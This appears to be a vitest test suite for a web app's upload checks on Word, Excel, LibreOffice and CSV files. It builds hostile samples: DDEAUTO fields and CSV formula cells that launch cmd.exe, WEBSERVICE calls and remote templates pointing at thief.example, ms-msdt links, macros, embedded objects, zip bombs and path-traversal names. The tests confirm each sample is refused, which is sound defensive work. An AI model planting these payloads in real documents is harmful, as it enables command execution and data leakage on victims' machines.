import zlib from 'node:zlib'
import ExcelJs from 'exceljs'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { partDefinitions } from '../../../server/records/model/parts.ts'
import { type TestApp, testApp } from '../../helpers/app.ts'
import {
  docxWith,
  odtWith,
  officeFile,
  officeTypes,
  readPart,
  relation,
  withChanged,
  withParts,
  withTyped,
  xlsxWith
} from '../../helpers/office-files.ts'
import { pdf, picture, signedIn, upload, uploadGuarantor } from '../../helpers/records.ts'
import { expectTidy, query } from '../../helpers/stored.ts'
import type { SignedIn } from '../../helpers/visitor.ts'

let server: TestApp
let ada: SignedIn

// As an author writes it to accept documents for the guarantor's form.
const rule = partDefinitions.find(({ name }) => name === 'guarantors')?.files[0]?.rule
const asWritten = [...(rule?.types ?? [])]
const take = (types: string[]) => rule?.types.splice(0, rule.types.length, ...types)
beforeAll(async () => {
  take([...asWritten, ...Object.values(officeTypes)])
  server = await testApp({ env: { RATE_LIMITS: 'off' } })
})
afterAll(() => {
  take(asWritten)
  return expectTidy(server)
})

beforeEach(async () => {
  ada = await signedIn(server)
})

const sentence = (words: string) => `The selected file ${words}, and choose that one.`
const macroWords = (ending: string) => sentence(`has macros. Save it as ${ending} without them`)
const embeddedWords = sentence('has another file, a program or something unknown in it. Take that out')
const reachingWords = sentence(
  'fetches something from elsewhere when it is opened, like a linked picture, a template or cells of another file. Break its links'
)
const all = '.docx, .xlsx, .odt or .ods'
const oldWords = sentence(
  `is an old file type or has a password, so we cannot check it. Save it as ${all} without a password`
)
const lockedWords = (ending: string) =>
  sentence(`has a password, so it cannot be checked. Save it as ${ending} without a password`)
const largeWords = sentence('is too large when it is unpacked. Make it shorter')
const damagedWords = (ending: string) =>
  sentence(`is damaged, or cannot be checked. Open it, save it as ${ending}`)

async function expectRefused(bytes: Buffer, msg: string, rule = 'harmless') {
  const answer = await uploadGuarantor(ada, 1, bytes)
  const problem = { msg, path: '/guarantors/0', form: 'steps/guarantors', rule }
  expect(answer).toMatchObject({ status: 415, body: { message: msg, data: [problem] } })
  expect(query(server, `SELECT 1 FROM files WHERE user_id = '${ada.id}'`)).toEqual([])
}

const field = (...pieces: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map(piece => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

async function madeByExcelJs(): Promise<Buffer> {
  const book = new ExcelJs.Workbook()
  const sheet = book.addWorksheet('Pay')
  sheet.addRow(['Month', 'Pay'])
  sheet.addRow(['May', { formula: 'SUM(B3:B9)' }])
  sheet.getCell('A4').value = { text: 'Our site', hyperlink: 'https://example.com' }
  return Buffer.from(await book.xlsx.writeBuffer())
}

describe('a document field that also accepts pictures', () => {
  it.each(['webp', 'avif', 'gif'] as const)(
    'accepts a %s if it accepts JPEG, and renames it to .jpg',
    async type => {
      take([...asWritten, 'image/jpeg'])
      const file = { name: 'guarantor', filename: `my form.${type}`, bytes: await picture({ type }) }
      const { body } = await upload(ada, '/user/guarantors', [['target', '1']], [file])
      take([...asWritten, ...Object.values(officeTypes)])
      expect(body.data.guarantors).toMatchObject([{ guarantor: { name: 'my form.jpg' } }])
    }
  )

  it('rejects a WebP if it accepts PNG but not JPEG', async () => {
    take([...asWritten, 'image/png'])
    const answer = await uploadGuarantor(ada, 1, await picture({ type: 'webp' }))
    take([...asWritten, ...Object.values(officeTypes)])
    expect(answer).toMatchObject({
      status: 415,
      body: { message: 'The selected file must be a PDF or PNG.' }
    })
  })
})

describe('the type check of an office document', () => {
  it.each<[string, keyof typeof officeTypes, () => Promise<Buffer>]>([
    ['a text of Word', 'docx', () => officeFile('docx')],
    ['a sheet of Excel', 'xlsx', () => officeFile('xlsx')],
    ['a text of LibreOffice', 'odt', () => officeFile('odt')],
    ['a sheet of LibreOffice', 'ods', () => officeFile('ods')],
    ['a sheet that another program wrote', 'xlsx', madeByExcelJs],
    [
      'a text with links to follow, and one to a bookmark',
      'docx',
      () =>
        docxWith(
          field(' HYPERLINK "https://example.com" ') + field(' HYPERLINK \\l "top" ') + field(' PAGE '),
          {
            'word/_rels/document.xml.rels': relation('hyperlink', 'mailto:ada@example.com')
          }
        )
    ],
    [
      'a text of LibreOffice with a link, a picture and a chart',
      'odt',
      () =>
        odtWith('<text:a xlink:href="https://example.com"/><draw:image xlink:href="Pictures/a.png"/>', {
          'Pictures/a.png': Buffer.from('89504e470d0a1a0a', 'hex'),
          'Object 1/content.xml': '<office:document-content xmlns:office="urn:o"/>',
          'ObjectReplacements/Object 1': 'VCLMTF'
        })
    ],
    ['a text in UTF-16', 'docx', () => inUtf16(field(' PAGE '))]
  ])('accepts %s and serves it as a download of its type', async (_, kind, make) => {
    const bytes = await make()
    expect(await uploadGuarantor(ada, 1, bytes)).toMatchObject({ status: 200 })
    const { body } = await ada.get('/user')
    const { url } = body.data.guarantors[0].guarantor
    const { headers, rawPayload } = await server.app.inject(url)
    expect(rawPayload.equals(bytes)).toBe(true)
    expect(headers).toMatchObject({
      'content-type': officeTypes[kind],
      'content-disposition': `attachment; filename="guarantor-1.${kind}"`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox"
    })
  })

  it('rejects an EPUB and a Word template by their content', async () => {
    const words =
      'The selected file must be a PDF, document (.docx), spreadsheet (.xlsx), document (.odt) or spreadsheet (.ods).'
    const zip = await withParts(await officeFile('odt'), { mimetype: 'application/epub+zip' })
    await expectRefused(zip, words, 'fileType')
    const template = await withChanged(await officeFile('docx'), '[Content_Types].xml', text =>
      text.replace('document.main+xml', 'template.main+xml')
    )
    await expectRefused(template, words, 'fileType')
  })

  it('rejects a .docx for a field that accepts only PDFs', async () => {
    take(asWritten)
    await expectRefused(await officeFile('docx'), 'The selected file must be a PDF.', 'fileType')
    expect(await uploadGuarantor(ada, 1, await pdf())).toMatchObject({ status: 200 })
    take([...asWritten, ...Object.values(officeTypes)])
  })
})

async function inUtf16(body: string): Promise<Buffer> {
  const bytes = await docxWith(body)
  const text = (await readPart(bytes, 'word/document.xml')).replace('encoding="UTF-8"', 'encoding="UTF-16"')
  return withParts(bytes, { 'word/document.xml': Buffer.from(`\ufeff${text}`, 'utf16le') })
}

describe('the macro check of an office document', () => {
  const enabled = (type: string) => (text: string) =>
    text.replace(/application\/vnd\.openxmlformats-officedocument\.\w+\.\w+\.main\+xml/, type)

  it.each<[string, string, () => Promise<Buffer>]>([
    [
      'as .docm',
      '.docx',
      async () =>
        withChanged(
          await officeFile('docx'),
          '[Content_Types].xml',
          enabled('application/vnd.ms-word.document.macroEnabled.main+xml')
        )
    ],
    [
      'as .xlsm',
      '.xlsx',
      async () =>
        withChanged(
          await officeFile('xlsx'),
          '[Content_Types].xml',
          enabled('application/vnd.ms-excel.sheet.macroEnabled.main+xml')
        )
    ],
    [
      'in a file that says it has none',
      '.docx',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/vbaProject.bin',
          'application/vnd.ms-office.vbaProject',
          'x'
        )
    ],
    [
      'under the name of a picture',
      '.docx',
      async () =>
        withTyped(await officeFile('docx'), 'word/media/a.png', 'application/vnd.ms-office.vbaProject', 'x')
    ],
    [
      'that only a relation names',
      '.docx',
      () => docxWith('', { 'word/_rels/document.xml.rels': relation('vbaProject', 'media/a.xml', false) })
    ],
    [
      'of the old kind',
      '.xlsx',
      async () =>
        withTyped(
          await officeFile('xlsx'),
          'xl/macrosheets/sheet1.xml',
          'application/vnd.ms-excel.macrosheet+xml',
          '<x/>'
        )
    ],
    ['of LibreOffice', '.odt', () => odtWith('', { 'Basic/Standard/Module1.xml': '<x/>' })],
    ['in Python', '.odt', () => odtWith('', { 'Scripts/python/a.py': 'print(1)' })],
    [
      'that a press begins',
      '.odt',
      () => odtWith('<script:event-listener script:language="ooo:script" xlink:href="x"/>')
    ],
    ['that a link begins', '.odt', () => odtWith('<text:a xlink:href="vnd.sun.star.script:a.b"/>')]
  ])('rejects macros %s', async (_, ending, make) => {
    await expectRefused(await make(), macroWords(ending))
  })
})

describe('the check of an office document for embedded content', () => {
  const office = 'application/vnd.openxmlformats-officedocument'

  it.each<[string, () => Promise<Buffer>]>([
    [
      'an object of another program',
      async () =>
        withTyped(await officeFile('docx'), 'word/embeddings/oleObject1.bin', `${office}.oleObject`, 'x')
    ],
    [
      'another document',
      async () => withTyped(await officeFile('docx'), 'word/a.docx', officeTypes.docx, 'PK')
    ],
    [
      'an ActiveX control',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/activeX/activeX1.xml',
          'application/vnd.ms-office.activeX+xml',
          '<x/>'
        )
    ],
    ['a web page', async () => withTyped(await officeFile('docx'), 'word/chunk.htm', 'text/html', '<html/>')],
    ['a program that nothing names', () => docxWith('', { 'word/media/run.exe': 'MZ' })],
    [
      'a program under the name of a picture',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/media/a.png',
          'image/png',
          Buffer.from('d0cf11e0a1b11ae1', 'hex')
        )
    ],
    [
      'a text under the name of a picture',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/media/a.png',
          `${office}.wordprocessingml.styles+xml`,
          '<x/>'
        )
    ],
    [
      'an object that a relation names',
      () => docxWith('', { 'word/_rels/document.xml.rels': relation('oleObject', 'media/a.xml', false) })
    ],
    ['an object in LibreOffice', () => odtWith('<draw:object-ole xlink:href="./Object 1"/>')],
    ['a file beside its parts', () => odtWith('', { 'Object 1': Buffer.from('d0cf11e0a1b11ae1', 'hex') })],
    ['a film', () => odtWith('', { 'Media/film.mp4': 'x' })],
    ['a program as a picture', () => odtWith('', { 'Pictures/a.png': Buffer.from('4d5a90000300', 'hex') })]
  ])('rejects %s', async (_, make) => {
    await expectRefused(await make(), embeddedWords)
  })
})

describe('the check of an office document for external references', () => {
  const refers = (kind: string, target: string) => () =>
    docxWith('', { 'word/_rels/document.xml.rels': relation(kind, target) })

  it.each<[string, () => Promise<Buffer>]>([
    ['a template of the network', refers('attachedTemplate', 'https://thief.example/a.dotm')],
    ['a linked object', refers('oleObject', 'file:///\\\\thief\\share\\a.docx')],
    ['a picture of the web', refers('image', 'https://thief.example/a.png')],
    ['a link that starts a program', refers('hyperlink', 'ms-msdt:/id')],
    ['a link to a disk of the network', refers('hyperlink', '\\\\thief\\share')],
    ['a link whose beginning is spaced', refers('hyperlink', ' fi&#10;le:///c:/a.exe')],
    [
      'a linked page that is not marked as one',
      () =>
        docxWith('', {
          'word/_rels/document.xml.rels': relation('image', 'https://thief.example/a.png', false)
        })
    ],
    [
      'relations that the list of contents calls a picture',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/_rels/document.xml.rels',
          'image/png',
          relation('image', 'https://thief.example/a.png')
        )
    ],
    ['a field that asks a program', () => docxWith(field(' DDEAUTO c:\\\\cmd.exe "/k calc" '))],
    ['such a field in pieces', () => docxWith(field(' DD', 'EAU', 'TO c:\\\\cmd.exe '))],
    [
      'such a field that another one writes',
      () =>
        docxWith(
          '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE 68 </w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>'
        )
    ],
    [
      'such a field that does not end',
      () => docxWith('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText>')
    ],
    [
      'such a field of one piece',
      () => docxWith('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/>')
    ],
    ['such a field in UTF-16', () => inUtf16(field(' DDE a '))],
    ['such a field as CDATA', () => docxWith(field('<![CDATA[ DDE a ]]>'))],
    ['a drawing of the web', () => docxWith('<v:imagedata src="https://thief.example/a.png"/>')],
    ['letters to many people', () => docxWith('<w:mailMerge/>')],
    ['a formula that asks the web', () => xlsxWith('_xlfn.WEBSERVICE("https://thief.example")')],
    ['a formula that asks a program', () => xlsxWith("cmd|'/k calc'!A0")],
    [
      'a formula behind quotation marks',
      () => xlsxWith('\'a"b\'!A1&amp;WEBSERVICE("https://thief.example")')
    ],
    [
      'another sheet',
      async () =>
        withTyped(
          await officeFile('xlsx'),
          'xl/externalLinks/externalLink1.xml',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
          '<x/>'
        )
    ],
    [
      'a database',
      async () =>
        withTyped(
          await officeFile('xlsx'),
          'xl/connections.xml',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
          '<x/>'
        )
    ],
    [
      'a picture of the web, in LibreOffice',
      () => odtWith('<draw:image xlink:href="https://thief.example/a.png"/>')
    ],
    ['a picture of the network', () => odtWith('<draw:image xlink:href="//thief/share/a.png"/>')],
    ['a file beside it', () => odtWith('<draw:image xlink:href="../a.png"/>')],
    ['a part of another text', () => odtWith('<text:section-source xlink:href="other.odt"/>')],
    ['a program, in LibreOffice', () => odtWith('<office:dde-source office:dde-application="soffice"/>')],
    ['a link to a disk, in LibreOffice', () => odtWith('<text:a xlink:href="file:///c:/a.exe"/>')],
    [
      'a formula of LibreOffice that asks a program',
      () => odtWith('<text:p text:formula="of:=DDE(&quot;a&quot;)"/>')
    ]
  ])('rejects %s', async (_, make) => {
    await expectRefused(await make(), reachingWords)
  })
})

describe('the check of an unreadable office document', () => {
  const ole = (words = '') =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from(words, 'utf16le')])

  it('rejects .doc and password-protected files and says how to save them', async () => {
    await expectRefused(ole(), oldWords)
    await expectRefused(ole('EncryptedPackage'), oldWords)
    const manifest = '<m xmlns:manifest="urn:m"><manifest:encryption-data/></m>'
    await expectRefused(await odtWith('', { 'META-INF/manifest.xml': manifest }), lockedWords('.odt'))
    const encrypted = await docxWith('')
    for (const at of positionsOf(encrypted, 'PK\u0001\u0002')) encrypted.writeUInt16LE(1, at + 8)
    await expectRefused(encrypted, lockedWords(all))
  })

  it.each<[string, string, () => Promise<Buffer>]>([
    ['cut off', all, async () => (await officeFile('docx')).subarray(0, -30)],
    ['with a name that leads elsewhere', all, async () => renamed(await officeFile('docx'), '../xxxx')],
    ['with a name that begins at the root', all, async () => renamed(await officeFile('docx'), '/xxxxxx')],
    [
      'with two parts whose names differ in capital letters',
      all,
      () => docxWith('', { 'WORD/document.xml': '<x/>' })
    ],
    [
      'with a note that may hold another list',
      all,
      async () => withParts(await officeFile('docx'), {}, { comment: 'PK' })
    ],
    ['with bytes that its list does not name', all, async () => withHidden(await officeFile('docx'))],
    [
      'with another name in front of a part',
      all,
      async () => renamed(await officeFile('docx'), 'x.xml', true)
    ],
    [
      'of two kinds at once',
      all,
      async () => withParts(await officeFile('docx'), { mimetype: officeTypes.odt })
    ],
    [
      'with words that stand for others',
      '.docx',
      () => docxWith('', { 'word/a.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' })
    ],
    ['of XML that is none', '.docx', () => docxWith('', { 'word/a.xml': '<x>' })],
    [
      'of letters that are none',
      '.docx',
      () => docxWith('', { 'word/a.xml': Buffer.from('<x>\u00ff\u00fe</x>', 'latin1') })
    ],
    [
      'in letters that hide what they say',
      '.docx',
      () => docxWith('', { 'word/a.xml': '<?xml version="1.0" encoding="utf-7"?><x/>' })
    ],
    ['of boxes in boxes', '.docx', () => docxWith('', { 'word/a.xml': '<a>'.repeat(5000) })],
    [
      'of settings without end',
      '.docx',
      () =>
        docxWith('', {
          'word/a.xml': `<a ${Array.from({ length: 5000 }, (_, at) => `a${at}=""`).join(' ')}/>`
        })
    ],
    [
      'without a list of contents',
      '.odt',
      async () => withChanged(await officeFile('odt'), 'META-INF/manifest.xml', () => '<x')
    ]
  ])('rejects as damaged a file %s', async (_, ending, make) => {
    await expectRefused(await make(), damagedWords(ending))
  })

  it('rejects zip bombs and an archive of 2,100 parts within 3 seconds each', async () => {
    const blanks = Buffer.alloc(40 << 20, ' ')
    const many = Object.fromEntries(Array.from({ length: 2100 }, (_, at) => [`word/${at}.xml`, '<x/>']))
    const bombs = [
      await docxWith('', { 'word/a.xml': Buffer.concat([Buffer.from('<x>'), blanks, Buffer.from('</x>')]) }),
      await docxWith('', { 'word/a.xml': `<x>${' '.repeat(4 << 20)}</x>` }),
      await docxWith('', many)
    ]
    for (const bomb of bombs) {
      const began = performance.now()
      await expectRefused(bomb, largeWords)
      expect(performance.now() - began).toBeLessThan(3000)
    }
  })

  it('rejects an archive that declares a smaller unpacked size than it has', async () => {
    const bytes = await docxWith('', { 'word/a.xml': `<x>${'ab'.repeat(9000)}</x>` })
    const at = positionsOf(bytes, 'PK\u0001\u0002').find(
      one => bytes.toString('latin1', one + 46, one + 56) === 'word/a.xml'
    )
    bytes.writeUInt32LE(10, (at ?? 0) + 24)
    await expectRefused(bytes, damagedWords('.docx'))
  })
})

describe('a field that accepts text and CSV files', () => {
  const withTexts = () => take([...asWritten, 'text/plain', 'text/csv'])
  const typeOfStored = () =>
    query<{ type: string }>(server, `SELECT type FROM files WHERE user_id = '${ada.id}'`).map(
      ({ type }) => type
    )

  it('stores a file as CSV if its rows have equally many cells, and as plain text otherwise', async () => {
    withTexts()
    expect(await uploadGuarantor(ada, 1, Buffer.from('name;pay\r\nAdé;-12\r\n'))).toMatchObject({
      status: 200
    })
    expect(await uploadGuarantor(ada, 2, Buffer.from('\ufeffI stand surety.\n'))).toMatchObject({
      status: 200
    })
    expect(typeOfStored().sort()).toEqual(['text/csv', 'text/plain'])
  })

  it('rejects binary data, invalid UTF-8 and formula cells that call a program or the web', async () => {
    withTexts()
    const words = 'The selected file must be a PDF, text (.txt) or table (.csv).'
    await expectRefused(Buffer.from('a,b\n\0,c'), words, 'fileType')
    await expectRefused(Buffer.from('Ad\u00e9', 'latin1'), words, 'fileType')
    const asking =
      'A cell of the selected file asks another program or the web for its value. Delete that cell, and choose the file again.'
    await expectRefused(Buffer.from("a,b\n1,=cmd|'/k calc'!A0\n"), asking)
    await expectRefused(Buffer.from('a,b\n1,"=WEBSERVICE(""https://thief.example"")"\n'), asking)
    take([...asWritten, ...Object.values(officeTypes)])
  })
})

function positionsOf(bytes: Buffer, mark: string): number[] {
  const found: number[] = []
  for (let at = bytes.indexOf(mark, 0, 'latin1'); at >= 0; at = bytes.indexOf(mark, at + 1, 'latin1'))
    found.push(at)
  return found
}

/** Renames the last entry of an archive: in the central directory and the local header, or only in the latter. */
function renamed(bytes: Buffer, start: string, isLocal = false): Buffer {
  const mark = isLocal ? 'PK\u0003\u0004' : 'PK\u0001\u0002'
  const at = positionsOf(bytes, mark).at(-1) ?? 0
  bytes.write(start, at + (isLocal ? 30 : 46), 'latin1')
  if (!isLocal) bytes.write(start, (positionsOf(bytes, 'PK\u0003\u0004').at(-1) ?? 0) + 30, 'latin1')
  return bytes
}

/** Adds an entry that the archive's central directory does not list. */
function withHidden(bytes: Buffer): Buffer {
  const content = zlib.deflateRawSync('<x/>')
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(content.length, 18)
  head.writeUInt32LE(4, 22)
  head.writeUInt16LE(5, 26)
  const table = positionsOf(bytes, 'PK\u0001\u0002')[0] ?? 0
  const hidden = Buffer.concat([head, Buffer.from('a.xml'), content])
  const whole = Buffer.concat([bytes.subarray(0, table), hidden, bytes.subarray(table)])
  const end = positionsOf(whole, 'PK\u0005\u0006').at(-1) ?? 0
  whole.writeUInt32LE(table + hidden.length, end + 16)
  return whole
}
